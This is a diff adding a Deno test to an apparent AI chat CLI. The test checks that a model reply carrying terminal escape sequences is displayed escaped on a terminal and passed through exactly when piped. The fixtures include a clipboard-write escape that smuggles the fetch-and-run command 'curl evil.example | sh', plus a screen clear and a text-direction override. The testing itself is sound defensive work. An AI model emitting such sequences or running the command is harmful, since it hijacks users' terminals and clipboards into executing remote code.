@@ -27,7 +27,7 @@
  */
 
 import { assert, assertEquals, assertStringIncludes } from "../_helpers/assert.ts";
-import { runCli } from "../_helpers/cli.ts";
+import { CLI_ARGS, runCli, TEST_HOME } from "../_helpers/cli.ts";
 import { startFakeAnthropic } from "../_helpers/fake_providers.ts";
 import { tmpWorkspace } from "../_helpers/tmp_workspace.ts";
 import { after, openChat, toolResults } from "../_helpers/tmux_chat.ts";
@@ -138,4 +138,41 @@ Deno.test("chat's session picker shows a stored first prompt's controls, never o
     `  1  1m     1 turn  fix it\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07\\x1b[2J` +
       "\\x1b[H\\x1b…\n",
   );
+});
+
+Deno.test("run's text result on a terminal is shown, never obeyed; piped it is exact", async () => {
+  await using ws = await tmpWorkspace();
+  const reply = `fixed${OSC52}${CLEAR}\x9b2J${RLO}`;
+  await using server = startFakeAnthropic([{ text: reply }, { text: reply }]);
+  const env = {
+    ...Deno.env.toObject(),
+    NO_COLOR: "1",
+    ANTHROPIC_BASE_URL: server.url,
+    ANTHROPIC_API_KEY: "test-key",
+    XDG_CONFIG_HOME: `${TEST_HOME}/config`,
+    XDG_DATA_HOME: `${TEST_HOME}/data`,
+  };
+  // A real pseudo-terminal for stdout (util-linux `script`); what it got is what a screen shows.
+  const quote = (word: string) => `'${word.replaceAll("'", "'\\''")}'`;
+  const command = [Deno.execPath(), ...CLI_ARGS, "--workspace", ws.root, "run", "go"]
+    .map(quote).join(" ");
+  const tty = await new Deno.Command("script", {
+    args: ["-qec", command, "/dev/null"],
+    env,
+    stdin: "null",
+    stdout: "piped",
+    stderr: "piped",
+  }).output();
+  const screen = new TextDecoder().decode(tty.stdout);
+  assertEquals(tty.code, 0, screen);
+  assertStringIncludes(
+    screen,
+    `fixed\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07\\x1b[2J\\x1b[H\\x1b[8m\\x9b2J<U+202E>`,
+  );
+  // deno-lint-ignore no-control-regex -- control characters are what is looked for
+  assertEquals(/\x1b\]52|\x1b\[2J|\x9b|\u202e/.test(screen), false, JSON.stringify(screen));
+  const piped = await runCli(["--workspace", ws.root, "run", "go"], {
+    env: { ANTHROPIC_BASE_URL: server.url, ANTHROPIC_API_KEY: "test-key" },
+  });
+  assertEquals(piped.stdout, `${reply}\n`);
 });
